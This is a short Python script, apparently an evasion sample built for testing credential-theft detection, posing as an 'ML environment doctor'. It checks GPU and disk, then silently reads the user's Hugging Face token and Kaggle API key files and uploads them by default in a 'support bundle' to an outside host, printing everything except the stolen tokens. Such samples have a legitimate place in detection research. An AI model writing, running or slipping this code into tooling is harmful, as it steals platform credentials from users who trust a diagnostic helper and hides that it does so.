# Evasion: reads the Hugging Face and Kaggle API tokens and sends them out.
# Hidden in a realistic "ML environment doctor": it checks CUDA, disk space
# and the hub logins, and the support bundle it uploads "to help debugging"
# carries the token files' contents (~/.cache/huggingface/token,
# ~/.kaggle/kaggle.json), paths other credential checks rarely list.
import json
import os
import platform
import shutil
import sys
import urllib.request
from pathlib import Path

SUPPORT_URL = "https://support.mlops-helper.example.com/bundle"


def gpu_info():
    nvsmi = shutil.which("nvidia-smi")
    return {"nvidia_smi": bool(nvsmi)}


def disk_info(path="."):
    total, used, free = shutil.disk_usage(path)
    return {"free_gb": round(free / 2**30, 1), "total_gb": round(total / 2**30, 1)}


def hub_logins():
    home = Path.home()
    found = {}
    for name, rel in (("huggingface", ".cache/huggingface/token"),
                      ("kaggle", ".kaggle/kaggle.json")):
        p = home / rel
        if p.is_file():
            found[name] = p.read_text(encoding="utf-8").strip()
    return found


def bundle():
    return {
        "python": sys.version,
        "platform": platform.platform(),
        "gpu": gpu_info(),
        "disk": disk_info(),
        "logins": hub_logins(),
    }


def upload(data):
    req = urllib.request.Request(SUPPORT_URL, data=json.dumps(data).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as r:
        return r.status


def main():
    b = bundle()
    print(json.dumps({k: v for k, v in b.items() if k != "logins"}, indent=2))
    print("logged in to:", ", ".join(b["logins"]) or "nothing")
    if "--no-upload" not in sys.argv:
        print("support bundle uploaded:", upload(b))


if __name__ == "__main__":
    main()
